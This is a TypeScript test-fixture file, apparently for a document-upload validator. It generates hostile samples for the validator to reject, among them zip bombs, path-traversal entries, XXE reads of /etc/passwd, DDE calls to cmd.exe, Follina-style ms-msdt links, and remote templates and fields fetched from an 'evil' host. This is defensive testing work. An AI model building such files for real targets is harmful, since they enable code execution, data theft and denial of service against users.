import { deflateRawSync } from 'node:zlib'
import { pdfFile, pngFile, wordFile, wordParts, zip, type Part } from '@/prisma/seed/sample-files'
import { hostilePdfs, type Hostile } from './hostile-pdfs'

const whole = wordParts(['Tham luận minh họa'])
const withPart = (...parts: Part[]): Buffer => zip([...whole, ...parts])
const without = (name: string): Part[] => whole.filter((part) => part.name !== name)
const noise = (length: number): Buffer => {
  let seed = 7
  return Buffer.from(Array.from({ length }, () => (seed = (seed * 48271) % 2147483647) & 255))
}

const relations = (inner: string, part = 'document.xml'): Part => ({
  name: `word/_rels/${part}.rels`,
  content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
})
const link = (type: string, target = 'https://example.test/a', mode = 'External'): string =>
  `<Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="${mode}"/>`
const field = (instruction: string): Part => ({
  name: 'word/header1.xml',
  content: `<w:hdr xmlns:w="x"><w:fldChar w:fldCharType="begin"/><w:instrText>${instruction}</w:instrText><w:fldChar w:fldCharType="end"/></w:hdr>`,
})
const compound = (name: string): Buffer =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(name, 'utf16le')])
const document = (content: string): Buffer =>
  zip([...without('word/document.xml'), { name: 'word/document.xml', content }])
const body = (inner: string): Buffer =>
  document(
    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inner}</w:body></w:document>`,
  )

/** Many names in the directory that all read one body: small, and without end when unpacked. */
function quilt(entries: number): Buffer {
  const parts = Array.from({ length: entries }, (_, at) => ({ name: `word/a${at}.xml`, content: 'x'.repeat(400) }))
  const archive = withPart(...parts)
  for (let at = archive.indexOf('PK\x01\x02'), nth = 0; at !== -1; at = archive.indexOf('PK\x01\x02', at + 4), nth++)
    if (nth > whole.length) archive.writeUInt32LE(0, at + 42)
  return archive
}

/** An archive whose local header names another file than its directory. */
function twoNames(): Buffer {
  const archive = withPart({ name: 'word/good.xml', content: '<a/>' })
  archive.write('word/evil.xml', archive.indexOf('word/good.xml'))
  return archive
}

function misplacedDirectory(change: (archive: Buffer, end: number) => void): Buffer {
  const archive = wordFile(['Một'])
  change(archive, archive.lastIndexOf('PK\x05\x06'))
  return archive
}

const pictureOf = (width: number, height: number): Buffer => {
  const png = pngFile()
  png.writeUInt32BE(width, 16)
  png.writeUInt32BE(height, 20)
  return png
}

const lying: Hostile[] = [
  ['a PDF called Word', 'a.docx', () => pdfFile(2)],
  ['a Word document called PDF', 'a.pdf', () => wordFile(['Một'])],
  ['a picture called PDF', 'a.pdf', pngFile],
  ['a program', 'a.docx', () => Buffer.concat([Buffer.from('MZ'), noise(5000)])],
  ['a program for Linux', 'a.pdf', () => Buffer.concat([Buffer.from('\x7fELF'), noise(5000)])],
  ['a web page', 'a.pdf', () => Buffer.from('<html><script>alert(1)</script></html>')],
  ['a web page behind a PDF mark', 'a.pdf', () => Buffer.from('%PDF-1.7<html><script>alert(1)</script></html>')],
  ['a picture of letters (SVG)', 'a.pdf', () => Buffer.from('<svg xmlns="x" onload="alert(1)"/>')],
  ['a rich text (RTF)', 'a.docx', () => Buffer.from('{\\rtf1\\object\\objdata 0105}')],
  ['an old Word document', 'a.docx', () => compound('WordDocument')],
  ['an old Excel book', 'a.docx', () => compound('Workbook')],
  ['a mail', 'a.docx', () => compound('__substg1.0')],
  ['a RAR archive', 'a.docx', () => Buffer.concat([Buffer.from('Rar!\x1a\x07\x00'), noise(500)])],
  ['a 7z archive', 'a.docx', () => Buffer.concat([Buffer.from('377abcaf271c', 'hex'), noise(500)])],
  ['a Java archive', 'a.docx', () => zip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Evil' }])],
  ['a presentation', 'a.docx', () => zip(wordParts([], { mainType: 'presentationml.presentation.main+xml' }))],
  [
    'a workbook',
    'a.docx',
    () =>
      zip(wordParts([], { mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' })),
  ],
  [
    'a template',
    'a.docx',
    () =>
      zip(
        wordParts([], { mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }),
      ),
  ],
  ['nothing', 'a.docx', () => Buffer.alloc(0)],
  ['zeros', 'a.pdf', () => Buffer.alloc(100_000)],
  ['20 MB of noise behind a PDF mark', 'a.pdf', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(19_999_991)])],
  ['20 MB of noise behind a ZIP mark', 'a.docx', () => Buffer.concat([Buffer.from('PK\x03\x04'), noise(19_999_996)])],
  [
    'one byte more than 20 MB',
    'a.pdf',
    () => Buffer.concat([pdfFile(1), Buffer.alloc(20_000_001 - pdfFile(1).length)]),
  ],
]

const archives: Hostile[] = [
  [
    'a part that unpacks a thousandfold',
    'a.docx',
    () => withPart({ name: 'word/a.xml', content: Buffer.alloc(30_000_000) }),
  ],
  [
    'many parts that unpack to 250 MB',
    'a.docx',
    () =>
      withPart(
        ...Array.from({ length: 10 }, (_, at) => ({ name: `word/a${at}.xml`, content: Buffer.alloc(25_000_000) })),
      ),
  ],
  [
    'a part that hides its size',
    'a.docx',
    () => withPart({ name: 'word/a.xml', content: Buffer.alloc(30_000_000), claims: 1000 }),
  ],
  ['a part that claims 4 GB', 'a.docx', () => withPart({ name: 'word/a.xml', content: 'x', claims: 0xfffffff0 })],
  [
    'a bomb of bombs',
    'a.docx',
    () =>
      withPart({
        name: 'word/media/a.png',
        content: zip([{ name: 'b.zip', content: zip([{ name: 'c', content: Buffer.alloc(9_000_000) }]) }]),
        stored: true,
      }),
  ],
  ['a quilt of 1,500 names over one body', 'a.docx', () => quilt(1500)],
  [
    '2,001 parts',
    'a.docx',
    () => zip(Array.from({ length: 2001 }, (_, at) => ({ name: `a${at}.xml`, content: 'x', stored: true }))),
  ],
  ['two names for one part', 'a.docx', twoNames],
  ['one name twice', 'a.docx', () => withPart({ name: 'word/document.xml', content: '<a/>' })],
  ['a path out of the archive', 'a.docx', () => withPart({ name: '../../evil.xml', content: 'x' })],
  ['an absolute path', 'a.docx', () => withPart({ name: '/etc/evil.xml', content: 'x' })],
  ['a path with a drive', 'a.docx', () => withPart({ name: 'C:/evil.xml', content: 'x' })],
  [
    'a symbolic link',
    'a.docx',
    () => withPart({ name: 'word/l.xml', content: '/etc/passwd', attributes: 0xa1ff << 16 }),
  ],
  [
    'a directory that starts behind the end',
    'a.docx',
    () => misplacedDirectory((archive, end) => archive.writeUInt32LE(0x7fffffff, end + 16)),
  ],
  [
    'a directory of a million entries',
    'a.docx',
    () =>
      misplacedDirectory(
        (archive, end) => archive.writeUInt16LE(65_535, end + 8) && archive.writeUInt16LE(65_535, end + 10),
      ),
  ],
  ['half an archive', 'a.docx', () => wordFile(['Một']).subarray(0, 400)],
  [
    'an archive with a spoilt body',
    'a.docx',
    () => {
      const archive = wordFile(['Một'])
      archive.fill(0xff, 60, 120)
      return archive
    },
  ],
]

const office: Hostile[] = [
  [
    'macros by type',
    'a.docx',
    () => zip(wordParts([], { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' })),
  ],
  ['macros by part', 'a.docx', () => withPart({ name: 'word/vbaProject.bin', content: 'x' })],
  [
    'macros by relation under another name',
    'a.docx',
    () =>
      withPart(relations(link('vbaProject', 'media/a.bin', 'Internal')), { name: 'word/media/a.bin', content: 'x' }),
  ],
  ['an OLE object', 'a.docx', () => withPart({ name: 'word/embeddings/oleObject1.bin', content: 'x' })],
  ['an OLE object among the pictures', 'a.docx', () => withPart({ name: 'word/media/a.png', content: compound('x') })],
  [
    'a program among the pictures',
    'a.docx',
    () => withPart({ name: 'word/media/a.png', content: Buffer.concat([Buffer.from('MZ'), noise(300)]) }),
  ],
  ['an ActiveX control', 'a.docx', () => withPart({ name: 'word/activeX/activeX1.xml', content: '<x/>' })],
  ['a template elsewhere', 'a.docx', () => withPart(relations(link('attachedTemplate'), 'settings.xml'))],
  [
    'a template on a share',
    'a.docx',
    () => withPart(relations(link('attachedTemplate', '\\\\evil\\t.dotm'), 'settings.xml')),
  ],
  ['a picture fetched from elsewhere', 'a.docx', () => withPart(relations(link('image')))],
  ['a frame fetched from elsewhere', 'a.docx', () => withPart(relations(link('frame'), 'webSettings.xml'))],
  ['an OLE link', 'a.docx', () => withPart(relations(link('oleObject', 'file:///c:/a.xls')))],
  ['a link that runs a program', 'a.docx', () => withPart(relations(link('hyperlink', 'ms-msdt:/id PCWDiagnostic')))],
  ['a link that runs a script', 'a.docx', () => withPart(relations(link('hyperlink', 'javascript:alert(1)')))],
  ['a link to a share', 'a.docx', () => withPart(relations(link('hyperlink', 'file://///evil/share/a.exe')))],
  ['a foreign page taken in', 'a.docx', () => withPart(relations(link('aFChunk', 'a.html', 'Internal')))],
  ['DDE', 'a.docx', () => withPart(field('DDEAUTO c:\\\\windows\\\\cmd.exe'))],
  ['DDE in character references', 'a.docx', () => withPart(field('&#68;&#x44;E c:\\\\cmd'))],
  ['a text taken in from elsewhere', 'a.docx', () => withPart(field('INCLUDETEXT "http://evil/a.docx"'))],
  ['a picture field from elsewhere', 'a.docx', () => withPart(field('INCLUDEPICTURE "http://evil/a.png" \\d'))],
  [
    'an entity without end',
    'a.docx',
    () => document('<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'),
  ],
  [
    'an entity from the disk',
    'a.docx',
    () => withPart({ name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
  ],
  [
    'a document in UTF-16 with an entity',
    'a.docx',
    () =>
      document('x').length
        ? zip([
            ...without('word/document.xml'),
            { name: 'word/document.xml', content: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', 'utf16le') },
          ])
        : Buffer.alloc(0),
  ],
  ['a document without its main part', 'a.docx', () => zip(without('word/document.xml'))],
  ['a main part that is no XML', 'a.docx', () => document('\x00\x01\x02 no xml')],
  ['a main part cut in the middle', 'a.docx', () => document('<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Một')],
]

const wearing: Hostile[] = [
  [
    'elements nested 100,000 deep',
    'a.docx',
    () => body('<w:sdt>'.repeat(100_000) + noise(120_000).toString('hex') + '</w:sdt>'.repeat(100_000)),
  ],
  [
    'a circle of styles',
    'a.docx',
    () =>
      zip([
        ...whole,
        relations('<Relationship Id="s" Type="http://x/styles" Target="styles.xml"/>'),
        {
          name: 'word/styles.xml',
          content:
            '<w:styles xmlns:w="x"><w:style w:type="paragraph" w:default="1" w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>',
        },
      ]),
  ],
  [
    'a word of three million letters',
    'a.docx',
    () => body(`<w:p><w:r><w:t>${noise(1_500_000).toString('hex')}</w:t></w:r></w:p>`),
  ],
  [
    '200,000 paragraphs',
    'a.docx',
    () =>
      body(
        Array.from({ length: 200_000 }, (_, at) => `<w:p><w:r><w:t>${(at * 7919).toString(36)}</w:t></w:r></w:p>`).join(
          '',
        ),
      ),
  ],
  ['a picture of a billion points', 'a.png', () => pictureOf(40_000, 40_000)],
  ['half a picture', 'a.png', () => pngFile().subarray(0, 50)],
  ['a picture of no width', 'a.png', () => pictureOf(0, 10)],
  [
    'a body of random deflate',
    'a.docx',
    () => withPart({ name: 'word/media/b.png', content: deflateRawSync(noise(400_000)), stored: true }),
  ],
]

/** Files that mean harm or are broken: each must end in a clear answer, soon, and without a crash. */
export const hostileFiles: readonly Hostile[] = [...lying, ...archives, ...office, ...hostilePdfs, ...wearing]
